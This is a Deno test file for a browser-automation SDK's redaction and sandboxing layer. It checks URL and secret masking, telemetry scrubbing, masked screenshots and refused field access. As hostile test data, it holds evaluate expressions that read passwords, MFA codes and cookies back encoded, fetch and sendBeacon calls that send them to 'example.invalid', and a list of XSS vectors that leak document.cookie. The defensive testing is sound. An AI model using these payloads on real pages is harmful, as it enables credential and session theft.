/**
 * Redaction, piece by piece: the shared functions of `@passage/connect/redact`,
 * the device's rules and secret store, and then the device itself on a real
 * Chromium driven through a real server by the SDK: `evaluate` cannot read
 * back what the human typed or the cookies, `fill` and `type` are refused on
 * their fields, telemetry carries no headers, cookies or bodies and masks
 * credential URLs, and screenshots taken while the human has control hide
 * what they type (proved on the pixels).
 *
 * The whole-system proof, scanning everything Passage holds, is
 * `tests/canary_test.ts`.
 */
import assert from "node:assert/strict";
import { Passage } from "@passage/connect";
import type { Browser as Controller, TelemetryEvent } from "@passage/connect";
import {
  isSecretParam,
  MIN_SECRET_LENGTH,
  REDACTED_SECRET,
  redactSecrets,
  redactUrl,
  redactUrlsDeep,
  redactUrlsInText,
} from "@passage/connect/redact";
import type { Browser as Chromium, Page } from "puppeteer-core";
import { type DeviceHandle, launchChromium, startDevice } from "../device/mod.ts";
import {
  disableRuleForTests,
  isRuleOn,
  restoreRulesForTests,
  RULE_NAMES,
} from "../device/_rules.ts";
import { DeviceSecrets } from "../device/_secrets.ts";
import { darkPixels, decodings, humanTurns } from "./_evidence.ts";
import { startServer, type TestServer } from "./_harness.ts";
import { startTestSite, TEST_PASSWORD, TEST_USER, type TestSite } from "./fixtures/test_site.ts";

// ------------------------------------------------------------ redactUrl & co

Deno.test("redactUrl() masks credential query parameters and keeps the rest", () => {
  assert.equal(
    redactUrl("https://x.test/cb?code=abc&state=xyz&Password=p%20w&api_key=k&page=2"),
    "https://x.test/cb?code=REDACTED&state=REDACTED&Password=REDACTED&api_key=REDACTED&page=2",
  );
});

Deno.test("redactUrl() masks names that contain or are made of credential words", () => {
  for (
    const name of ["client_secret", "authToken", "X-Amz-Signature", "JSESSIONID", "code_verifier"]
  ) {
    assert.equal(redactUrl(`https://x.test/?${name}=v`), `https://x.test/?${name}=REDACTED`, name);
  }
  for (const name of ["author", "keyword", "q", "passenger"]) {
    assert.equal(redactUrl(`https://x.test/?${name}=v`), `https://x.test/?${name}=v`, name);
  }
});

Deno.test("redactUrl() masks fragment tokens and drops userinfo", () => {
  assert.equal(
    redactUrl("https://user:pw@x.test/cb#access_token=t&token_type=bearer&expires_in=3600"),
    "https://x.test/cb#access_token=REDACTED&token_type=REDACTED&expires_in=3600",
  );
  assert.equal(redactUrl("https://x.test/#/route?otp=123"), "https://x.test/#/route?otp=REDACTED");
  assert.equal(redactUrl("https://x.test/#section"), "https://x.test/#section");
});

Deno.test("redactUrl() leaves empty values, other schemes and plain paths alone", () => {
  assert.equal(redactUrl("https://x.test/?token=&a"), "https://x.test/?token=&a");
  assert.equal(redactUrl("data:text/plain,token=1"), "data:text/plain,token=1");
  assert.equal(redactUrl("about:blank"), "about:blank");
});

Deno.test("redactUrl() cuts URLs to 8192 characters", () => {
  assert.equal(redactUrl(`https://x.test/?q=${"a".repeat(10_000)}`).length, 8192);
});

Deno.test("redactUrlsInText() redacts every URL in a message", () => {
  assert.equal(
    redactUrlsInText("net::ERR_FAILED at https://x.test/?sid=1 (from http://y.test/?key=2)"),
    "net::ERR_FAILED at https://x.test/?sid=REDACTED (from http://y.test/?key=REDACTED)",
  );
});

Deno.test("isSecretParam() is case-insensitive", () => {
  assert.equal(isSecretParam("MFA"), true);
  assert.equal(isSecretParam("Sig"), true);
  assert.equal(isSecretParam("lang"), false);
});

Deno.test("redactUrlsDeep() masks URLs in every string and key of a JSON value", () => {
  const value = {
    "https://x.test/?token=k": ["see https://x.test/cb?code=c now", 3, null, true],
    nested: { url: "wss://x.test/socket?sid=s", plain: "token=t" },
  };
  assert.deepEqual(redactUrlsDeep(value), {
    "https://x.test/?token=REDACTED": ["see https://x.test/cb?code=REDACTED now", 3, null, true],
    nested: { url: "wss://x.test/socket?sid=REDACTED", plain: "token=t" },
  });
  assert.equal(value.nested.url, "wss://x.test/socket?sid=s", "the input is not changed");
});

// ------------------------------------------------------------ redactSecrets

Deno.test("redactSecrets() replaces every occurrence in every string and key", () => {
  const secrets = ["hunter22", "s3ss10n-t0ken"];
  const value = {
    html: "<input value=hunter22> and hunter22 again",
    list: ["s3ss10n-t0ken", { deep: ["x hunter22 y"] }, 42, false, null],
    "hunter22": "key",
  };
  assert.deepEqual(redactSecrets(value, secrets), {
    html: `<input value=${REDACTED_SECRET}> and ${REDACTED_SECRET} again`,
    list: [REDACTED_SECRET, { deep: [`x ${REDACTED_SECRET} y`] }, 42, false, null],
    [REDACTED_SECRET]: "key",
  });
  assert.equal(value.html, "<input value=hunter22> and hunter22 again", "the input is unchanged");
});

Deno.test("redactSecrets() ignores secrets shorter than four characters", () => {
  assert.equal(MIN_SECRET_LENGTH, 4);
  assert.equal(redactSecrets("ada and 123", ["ada", "123", ""]), "ada and 123");
  assert.equal(redactSecrets("code 1234", ["1234"]), `code ${REDACTED_SECRET}`);
});

Deno.test("redactSecrets() catches percent-encoded, form-encoded, HTML- and JSON-escaped spellings", () => {
  const secret = `correct horse & "battery" <staple>`;
  const spellings = [
    secret,
    encodeURIComponent(secret),
    new URLSearchParams({ p: secret }).toString().slice(2),
    secret.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;")
      .replaceAll(">", "&gt;"),
    JSON.stringify(secret).slice(1, -1),
  ];
  for (const spelling of spellings) {
    assert.equal(redactSecrets(`[${spelling}]`, [secret]), `[${REDACTED_SECRET}]`, spelling);
  }
  // a cookie stored percent-encoded and echoed decoded
  assert.equal(redactSecrets("token: a:b/c=", ["a%3Ab%2Fc%3D"]), `token: ${REDACTED_SECRET}`);
});

Deno.test("redactSecrets() masks a longer secret whole when it contains a shorter one", () => {
  assert.equal(
    redactSecrets("pass_good_x1 pass_good", ["pass_good", "pass_good_x1"]),
    `${REDACTED_SECRET} ${REDACTED_SECRET}`,
  );
});

// ------------------------------------------------------------ the device's rules and secrets

Deno.test("every device rule is on unless a test switches it off, and restore puts it back", () => {
  for (const rule of RULE_NAMES) assert.equal(isRuleOn(rule), true, rule);
  try {
    disableRuleForTests("urls");
    assert.equal(isRuleOn("urls"), false);
    assert.equal(isRuleOn("secrets"), true);
    assert.throws(() => disableRuleForTests("everything" as "urls"), /Unknown redaction rule/);
  } finally {
    restoreRulesForTests();
  }
  for (const rule of RULE_NAMES) assert.equal(isRuleOn(rule), true, rule);
});

Deno.test("DeviceSecrets keeps typed values, corrections, passwords and long cookie values", () => {
  const secrets = new DeviceSecrets();
  for (const prefix of ["h", "hu", "hun", "hunt", "hunte", "hunter", "hunter2"]) {
    secrets.noteTyped("doc:1", prefix);
  }
  // a keystroke at a time: only the latest value is a secret
  assert.deepEqual(secrets.values(), ["hunter2"]);
  secrets.noteTyped("doc:1", "hunter"); // a correction: the longer value stays a secret
  assert.deepEqual(secrets.values().sort(), ["hunter", "hunter2"]);
  secrets.noteCookie("short");
  secrets.noteSetCookie('sid=abcdef123; Path=/; HttpOnly\ntoken="q1w2e3r4"; Path=/');
  secrets.noteValue("pw");
  assert.deepEqual(secrets.values().sort(), ["abcdef123", "hunter", "hunter2", "q1w2e3r4"]);
  assert.deepEqual(secrets.redact({ text: "sid=abcdef123 pw=hunter2" }), {
    text: `sid=${REDACTED_SECRET} pw=${REDACTED_SECRET}`,
  });
});

Deno.test("DeviceSecrets leaves screenshot pixels alone and scrubs the rest", () => {
  const secrets = new DeviceSecrets();
  secrets.noteValue("QUJD"); // a secret that is also valid base64
  const shot: TelemetryEvent = {
    kind: "screenshot",
    at: "QUJD",
    format: "jpeg",
    data: "QUJDQUJD",
    masked: false,
  };
  assert.deepEqual(secrets.redactEvent(shot), { ...shot, at: REDACTED_SECRET });
  assert.deepEqual(
    secrets.redactOutcome("screenshot", { ok: true, value: { format: "jpeg", data: "QUJD" } }),
    { ok: true, value: { format: "jpeg", data: "QUJD" } },
  );
  assert.deepEqual(
    secrets.redactOutcome("evaluate", { ok: true, value: { value: "QUJD" } }),
    { ok: true, value: { value: REDACTED_SECRET } },
  );
  try {
    disableRuleForTests("secrets");
    assert.deepEqual(secrets.redact({ value: "QUJD" }), { value: "QUJD" });
  } finally {
    restoreRulesForTests();
  }
});

// ------------------------------------------------------------ the device, end to end

/** Polls `find` until it returns something, or fails after `ms`. */
async function eventually<T>(what: string, find: () => T | undefined, ms = 15_000): Promise<T> {
  const deadline = Date.now() + ms;
  for (;;) {
    const found = find();
    if (found !== undefined) return found;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 25));
  }
}

/** A Sessions API session with a controller (the SDK) and a device on the shared Chromium. */
async function openSession(server: TestServer, chromium: Chromium, site: TestSite) {
  const passage = new Passage({ apiKey: server.apiKey, baseUrl: server.url });
  const session = await passage.sessions.create();
  const controller = await session.connect();
  const telemetry: TelemetryEvent[] = [];
  controller.onTelemetry((event) => telemetry.push(event));
  const turns = humanTurns();
  const device = await startDevice({
    server: server.url,
    claimCode: session.claimCode!,
    allowPrivateOrigins: [site.url],
    browser: chromium,
    onStatus: turns.onStatus,
  });
  return {
    controller,
    device,
    telemetry,
    turns,
    async close() {
      await controller.close();
      await passage.sessions.end(session.id).catch(() => {});
      await device.close();
    },
  };
}

/** Expects a command to fail with `code`. */
async function refused(promise: Promise<unknown>, code = "refused"): Promise<void> {
  await assert.rejects(promise, (error: { code?: string }) => {
    assert.equal(error.code, code, String(error));
    return true;
  });
}

/** The human logs in on the test site's `/login?mfa=1` page and stops at the MFA step. */
async function typeLogin(page: Page, password: string): Promise<void> {
  await page.waitForSelector("#username");
  await page.type("#username", TEST_USER);
  await page.type("#password", password);
  await page.click("#submit");
}

/** The keys the protocol defines for each telemetry kind. */
const TELEMETRY_KEYS: Record<TelemetryEvent["kind"], string[]> = {
  console: ["at", "kind", "level", "text"],
  request: ["at", "kind", "method", "requestId", "resourceType", "url"],
  response: ["at", "durationMs", "kind", "method", "mimeType", "requestId", "status", "url"],
  requestFailed: ["at", "errorText", "kind", "requestId", "url"],
  navigation: ["at", "kind", "url"],
  screenshot: ["at", "data", "format", "kind", "masked"],
  yield: ["at", "kind", "state"],
  notice: ["at", "code", "kind", "message"],
};

async function evaluateLogin(
  site: TestSite,
  s: Awaited<ReturnType<typeof openSession>>,
  t: Deno.TestContext,
) {
  const { controller, device, turns } = s;
  const password = `${TEST_PASSWORD} ${crypto.randomUUID().slice(0, 8)}`;
  const code = `1234${String(Math.floor(Math.random() * 100)).padStart(2, "0")}`;

  await controller.navigate({ url: `${site.url}/login?mfa=1` });
  const first = controller.yieldToUser({
    conditions: [{ type: "selector", selector: "#mfa:not([hidden])" }],
    timeout: 60_000,
  });
  await turns.nth(1);
  await typeLogin(device.page, password);
  await first;

  await t.step("the yield emptied the typed fields, and evaluate reads no password", async () => {
    assert.equal(
      await device.page.$eval("#password", (e) => (e as HTMLInputElement).value),
      "",
      "the field was emptied when the yield ended",
    );
    assert.equal(
      await controller.evaluate({ expression: "document.querySelector('#password').value" }),
      "",
    );
    await refused(
      controller.evaluate({
        expression: "Object.fromEntries(new FormData(document.getElementById('login')))",
      }),
      "evaluation_failed",
    );
    const html = await controller.evaluate<string>({
      expression:
        "document.documentElement.outerHTML + JSON.stringify([...document.querySelectorAll('input')].map((i) => i.value))",
    });
    assert.ok(!html.includes(password), html.slice(-200));
  });

  await t.step(
    "fill, type and reading the value are refused on password and typed fields",
    async () => {
      await refused(controller.fill({ selector: "#password", value: "x" }));
      await refused(controller.type({ selector: "#password", text: "x" }));
      await refused(controller.fill({ selector: "#username", value: "x" }));
      await refused(controller.getAttribute({ selector: "#password", name: "value" }));
      const form = await controller.innerHTML({ selector: "#login" });
      assert.ok(!form.includes(password));
    },
  );

  const second = controller.yieldToUser({
    conditions: [{ type: "selector", selector: "body[data-human-done]" }],
    timeout: 60_000,
  });
  await turns.nth(2);
  await device.page.type("#mfa-code", code);
  await device.page.evaluate(() => document.body.dataset.humanDone = "1");
  await second;

  await t.step("evaluate reads nothing of a typed MFA code", async () => {
    assert.equal(
      await controller.evaluate({ expression: "document.querySelector('#mfa-code').value" }),
      "",
    );
    await refused(controller.fill({ selector: "#mfa-code", value: "000000" }));
    await refused(controller.type({ selector: "#mfa-code", text: "0" }));
  });

  // the yield emptied the field: the human types the code again and sends
  // it; the site signs them in and sets its cookies
  await device.page.type("#mfa-code", code);
  await device.page.click("#mfa-submit");
  await controller.waitForNavigation({ urlContains: "/home" });
  const sid = (await device.page.cookies()).find((c) => c.name === "sid")?.value;
  assert.ok(sid, "the site set its session cookie");

  await t.step("evaluate reads no cookie and no stored token", async () => {
    const cookie = await controller.evaluate<string>({ expression: "document.cookie" });
    assert.equal(cookie, "");
    for (const storage of ["localStorage", "sessionStorage"]) {
      await refused(
        controller.evaluate({ expression: `${storage}.getItem('token')` }),
        "evaluation_failed",
      );
    }
    assert.equal(await controller.url(), `${site.url}/home`);
  });
  return { password, code, sid };
}

Deno.test("the device keeps typed values, cookies and screenshots of typing to itself", async (t) => {
  const chromium = await launchChromium();
  try {
    await using site = await startTestSite();
    await using server = await startServer();

    await t.step("a login: evaluate, fill, type and telemetry", async (t) => {
      const s = await openSession(server, chromium, site);
      try {
        const { password, code, sid } = await evaluateLogin(site, s, t);

        await t.step(
          "telemetry carries no headers, cookies or bodies, and masks URLs",
          async () => {
            // the redirect that carried the token was reported, masked
            const urls = await eventually("the /welcome request", () => {
              const urls = s.telemetry.flatMap((e) => "url" in e ? [e.url] : []);
              return urls.some((u) => u.includes("/welcome?")) ? urls : undefined;
            });
            assert.ok(urls.includes(`${site.url}/welcome?token=REDACTED`), urls.join("\n"));
            for (const event of s.telemetry) {
              assert.deepEqual(Object.keys(event).sort(), TELEMETRY_KEYS[event.kind], event.kind);
            }
            const text = JSON.stringify(s.telemetry);
            for (const [name, secret] of [["password", password], ["code", code], ["sid", sid]]) {
              assert.ok(!text.includes(secret), `the ${name} is in the telemetry`);
            }
            const posts = s.telemetry.filter((e) => e.kind === "request" && e.method === "POST");
            assert.ok(posts.length >= 2, "the login and MFA posts were reported");
          },
        );
      } finally {
        await s.close();
      }
    });

    for (const ruleOn of [true, false]) {
      const name = ruleOn
        ? "a screenshot taken while the human types hides the text (pixels)"
        : "with the screenshots rule off, the same screenshot shows the text (pixels)";
      await t.step(name, async () => {
        if (!ruleOn) disableRuleForTests("screenshots");
        const s = await openSession(server, chromium, site);
        try {
          const { shot, box, emptyShot } = await typeDuringSlowLoad(site, s);
          const dark = await darkPixels(chromium, shot.data, box);
          const darkEmpty = await darkPixels(chromium, emptyShot, box);
          assert.equal(darkEmpty, 0, "the empty field has no text-coloured pixels");
          if (ruleOn) {
            assert.equal(shot.masked, true);
            assert.ok(dark <= 5, `the field shows ${dark} text-coloured pixels`);
          } else {
            assert.equal(shot.masked, false);
            assert.ok(dark > 100, `only ${dark} text-coloured pixels: no text in the field?`);
          }
        } finally {
          restoreRulesForTests();
          await s.close();
        }
      });
    }
  } finally {
    await chromium.close();
  }
});

/**
 * Opens a page whose load waits for a slow image, hands control to the human,
 * who types into its big text field before the page finishes loading; returns
 * the telemetry screenshot taken at the load (while the human has control),
 * the field's box in it, and a screenshot of the empty field for comparison.
 */
async function typeDuringSlowLoad(
  site: TestSite,
  s: {
    controller: Controller;
    device: DeviceHandle;
    telemetry: TelemetryEvent[];
    turns: ReturnType<typeof humanTurns>;
  },
) {
  const { controller, device, telemetry, turns } = s;
  await controller.navigate({
    url: `${site.url}/slow-form?ms=3000`,
    waitUntil: "domcontentloaded",
  });
  // measured on the device's page itself: evaluate's copy of the document has no layout
  const rect = await device.page.$eval("#field", (el) => {
    const r = el.getBoundingClientRect();
    return { x: r.x, y: r.y, width: r.width, height: r.height };
  });
  // the inside of the field, clear of its border and padding
  const box = {
    x: Math.ceil(rect.x + 8),
    y: Math.ceil(rect.y + 8),
    width: Math.floor(rect.width - 16),
    height: Math.floor(rect.height - 16),
  };
  const emptyShot = (await controller.screenshot({ format: "png" })).data;
  const yielded = controller.yieldToUser({
    conditions: [{ type: "selector", selector: "body[data-human-done]" }],
    timeout: 60_000,
  });
  await turns.nth(1);
  await device.page.type("#field", "WWWWWWWWWW");
  const typedAt = new Date().toISOString();
  const shot = await eventually(
    "a screenshot taken after the typing",
    () =>
      telemetry.find((e): e is Extract<TelemetryEvent, { kind: "screenshot" }> =>
        e.kind === "screenshot" && e.at > typedAt
      ),
  );
  await device.page.evaluate(() => document.body.dataset.humanDone = "1");
  await yielded;
  const started = telemetry.findIndex((e) => e.kind === "yield" && e.state === "started");
  const ended = await eventually("the yield's end", () => {
    const i = telemetry.findIndex((e) => e.kind === "yield" && e.state === "ended");
    return i >= 0 ? i : undefined;
  });
  const at = telemetry.indexOf(shot);
  assert.ok(started < at && at < ended, "the screenshot was taken while the human had control");
  return { shot, box, emptyShot };
}

// ------------------------------------------------------------ encoded reads (snapshot)

/**
 * A hostile script after the human typed a canary password and MFA code and
 * signed in: reads them, the cookies and the stored token back encoded, and
 * tries to send them away. Returns what each attempt answered (or its error).
 */
async function hostileEncodedReads(site: TestSite, s: Awaited<ReturnType<typeof openSession>>) {
  const { controller, device, turns } = s;
  const password = `${TEST_PASSWORD} ${crypto.randomUUID().slice(0, 8)}`;
  const code = `1234${String(Math.floor(Math.random() * 100)).padStart(2, "0")}`;
  const answers: Array<{ what: string; value?: unknown; error?: string }> = [];
  const attempt = async (expression: string) => {
    try {
      answers.push({ what: expression, value: await controller.evaluate({ expression }) });
    } catch (error) {
      answers.push({ what: expression, error: String(error) });
    }
  };
  const pw = "document.querySelector('#password').value";
  const mfa = "document.querySelector('#mfa-code').value";

  await controller.navigate({ url: `${site.url}/login?mfa=1` });
  const first = controller.yieldToUser({
    conditions: [{ type: "selector", selector: "#mfa:not([hidden])" }],
    timeout: 60_000,
  });
  await turns.nth(1);
  await typeLogin(device.page, password);
  await first;
  await attempt(`${pw}.split('').join('|')`);
  await attempt(`btoa(${pw})`);
  await attempt(`Array.from(${pw}, (c) => c.charCodeAt(0))`);
  await attempt(
    "[...new FormData(document.getElementById('login')).entries()].map(([k, v]) => k + '=' + btoa(v))",
  );
  await attempt(`fetch('https://example.invalid/?' + btoa(${pw})).then((r) => r.status)`);
  await attempt(`fetch('/api/login', { method: 'POST', body: btoa(${pw}) }).then((r) => r.status)`);
  await attempt(`navigator.sendBeacon('https://example.invalid/', btoa(${pw}))`);

  const second = controller.yieldToUser({
    conditions: [{ type: "selector", selector: "body[data-human-done]" }],
    timeout: 60_000,
  });
  await turns.nth(2);
  await device.page.type("#mfa-code", code);
  await device.page.evaluate(() => document.body.dataset.humanDone = "1");
  await second;
  await attempt(`${mfa}.split('').join('|')`);
  await attempt(`btoa(${mfa})`);
  await attempt(`Array.from(${mfa}, (c) => c.charCodeAt(0))`);

  // the human sends the code (again, if the yield emptied it) and is signed in
  await device.page.$eval("#mfa-code", (e) => (e as HTMLInputElement).value = "");
  await device.page.type("#mfa-code", code);
  await device.page.click("#mfa-submit");
  await controller.waitForNavigation({ urlContains: "/home" });
  const sid = (await device.page.cookies()).find((c) => c.name === "sid")?.value;
  assert.ok(sid, "the site set its session cookie");
  await attempt("btoa(document.cookie)");
  await attempt("btoa(localStorage.getItem('token'))");
  await attempt("Array.from(sessionStorage.getItem('token'), (c) => c.charCodeAt(0))");
  await attempt(
    "new Promise((resolve, reject) => { const r = indexedDB.open('x'); r.onsuccess = () => resolve('open'); r.onerror = reject; })",
  );
  await attempt("btoa(document.querySelector('iframe')?.contentDocument?.cookie ?? 'no frame')");
  await attempt("fetch('/api/account').then((r) => r.text())");

  const recovered = (secret: string) =>
    answers.filter((a) => decodings(a.value ?? a.error).some((text) => text.includes(secret)))
      .map((a) => a.what);
  return { answers, password, code, sid, recovered };
}

Deno.test("evaluate cannot read typed values, cookies or stored tokens back encoded, nor send them", async (t) => {
  const chromium = await launchChromium();
  try {
    await using site = await startTestSite();
    await using server = await startServer();

    await t.step("sandboxed: nothing decodes to a canary, and the network is refused", async () => {
      const s = await openSession(server, chromium, site);
      try {
        const run = await hostileEncodedReads(site, s);
        for (
          const [name, secret] of [["password", run.password], ["MFA code", run.code], [
            "session token",
            run.sid!,
          ]]
        ) {
          assert.deepEqual(run.recovered(secret), [], `the ${name} was recovered`);
        }
        const answer = (start: string) => run.answers.find((a) => a.what.startsWith(start))!;
        // the sandbox has no network: not the page's origin, not any other
        for (const start of ["fetch('https:", "fetch('/api/login'", "fetch('/api/account')"]) {
          assert.match(String(answer(start).error), /evaluation_failed/);
        }
        assert.match(String(answer("navigator.sendBeacon").error), /evaluation_failed/);
        assert.match(String(answer("btoa(localStorage").error), /evaluation_failed/);
        assert.match(String(answer("new Promise").error), /evaluation_failed/);
        assert.equal(answer("btoa(document.cookie)").value, "");
        assert.deepEqual(answer(`${"document.querySelector('#password').value"}.split`).value, "");
      } finally {
        await s.close();
      }
    });

    await t.step("teeth: with snapshot off, the encoded canaries come back", async () => {
      disableRuleForTests("snapshot");
      const s = await openSession(server, chromium, site);
      try {
        const run = await hostileEncodedReads(site, s);
        const password = run.recovered(run.password);
        assert.ok(password.some((w) => w.includes(".split('')")), password.join("\n"));
        assert.ok(password.some((w) => w.startsWith("btoa(")), password.join("\n"));
        assert.ok(password.some((w) => w.startsWith("Array.from(")), password.join("\n"));
        assert.ok(run.recovered(run.code).length >= 3, "the MFA code was not recovered");
        const token = run.recovered(run.sid!);
        assert.ok(token.includes("btoa(document.cookie)"), token.join("\n"));
        assert.ok(token.includes("btoa(localStorage.getItem('token'))"), token.join("\n"));
      } finally {
        restoreRulesForTests();
        await s.close();
      }
    });
  } finally {
    await chromium.close();
  }
});

// ------------------------------------------------------------ DOM writes (snapshot)

/** What every write vector runs in the page's world if it gets there: the cookies, base64, in the title. */
const LEAK = "document.title=btoa(document.cookie)";

/** Hostile `evaluate` expressions that try to make the page's own world run {@link LEAK}. */
const WRITE_VECTORS: Array<[string, string]> = [
  ["innerHTML", `document.body.innerHTML += '<img src=x onerror="${LEAK}">'`],
  [
    "script element",
    `(() => { const s = document.createElement('script'); s.text = '${LEAK}'; document.head.appendChild(s); })()`,
  ],
  [
    "inline handler",
    `(() => { const h = document.querySelector('#greeting'); h.setAttribute('onclick', '${LEAK}'); h.click(); })()`,
  ],
  [
    "insertAdjacentHTML",
    `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="${LEAK}">')`,
  ],
  [
    "iframe srcdoc",
    `(() => { const f = document.createElement('iframe'); f.srcdoc = '<img src=x onerror="parent.${LEAK}">'; document.body.append(f); })()`,
  ],
  [
    "javascript: link",
    `(() => { const a = document.querySelector('#settings'); a.href = 'javascript:void(${LEAK})'; a.click(); })()`,
  ],
  ["document.write", `document.write('<img src=x onerror="${LEAK}">')`],
];

/**
 * Signs the human in on the test site (the site sets the readable `token`
 * cookie), then runs each write vector, each time reading the title back
 * with a separate `evaluate`. Returns what each attempt answered and what the
 * controller and the device's page then showed as the title.
 */
async function hostileWrites(
  site: TestSite,
  s: Awaited<ReturnType<typeof openSession>>,
  vectors: Array<[string, string]>,
) {
  const { controller, device, turns } = s;
  await controller.navigate({ url: `${site.url}/login` });
  const signIn = controller.yieldToUser({
    conditions: [{ type: "selector", selector: "#settings" }],
    timeout: 60_000,
  });
  await turns.nth(1);
  await typeLogin(device.page, TEST_PASSWORD);
  await signIn;
  await controller.waitForNavigation({ urlContains: "/home" });
  const token = (await device.page.cookies()).find((c) => c.name === "token")?.value;
  assert.ok(token, "the site set its readable token cookie");
  const runs: Array<
    { what: string; error?: string; value?: unknown; seen: unknown; title: string }
  > = [];
  for (const [what, expression] of vectors) {
    await device.page.evaluate(() => document.title = "clean");
    let value: unknown, error: string | undefined;
    try {
      value = await controller.evaluate({ expression });
    } catch (e) {
      error = String(e);
    }
    await new Promise((r) => setTimeout(r, 300)); // image errors, clicks and navigations are async
    const seen = await controller.evaluate({ expression: "document.title" });
    runs.push({ what, value, error, seen, title: await device.page.title() });
  }
  const leaked = (secret: string) =>
    runs.filter((r) =>
      [r.seen, r.title, r.value, r.error].some((x) =>
        decodings(x).some((text) => text.includes(secret))
      )
    ).map((r) => r.what);
  return { runs, token, leaked };
}

Deno.test("evaluate cannot write to the page to run code in the page's world", async (t) => {
  const chromium = await launchChromium();
  try {
    await using site = await startTestSite();
    await using server = await startServer();

    await t.step("sandboxed: writes change only a copy, and the token never shows", async () => {
      const s = await openSession(server, chromium, site);
      try {
        const run = await hostileWrites(site, s, [
          ...WRITE_VECTORS,
          ["location.href", `location.href = 'javascript:void(${LEAK})'`],
        ]);
        assert.deepEqual(run.leaked(run.token), [], JSON.stringify(run.runs));
        for (const r of run.runs) assert.equal(r.title, "clean", r.what);
        const telemetry = JSON.stringify(s.telemetry);
        assert.ok(!decodings(telemetry).some((text) => text.includes(run.token)));
        // reading still works
        assert.equal(
          await s.controller.evaluate({
            expression: "document.querySelector('#settings') !== null",
          }),
          true,
        );
      } finally {
        await s.close();
      }
    });

    await t.step(
      "teeth: with snapshot off, a write runs the leak in the page",
      async () => {
        disableRuleForTests("snapshot");
        const s = await openSession(server, chromium, site);
        try {
          const run = await hostileWrites(site, s, WRITE_VECTORS);
          const leaked = run.runs.filter((r) =>
            decodings(r.title).some((x) => x.includes(run.token))
          );
          assert.ok(leaked.length >= 1, JSON.stringify(run.runs));
          assert.ok(run.leaked(run.token).includes("innerHTML"), JSON.stringify(run.runs));
        } finally {
          restoreRulesForTests();
          await s.close();
        }
      },
    );
  } finally {
    await chromium.close();
  }
});
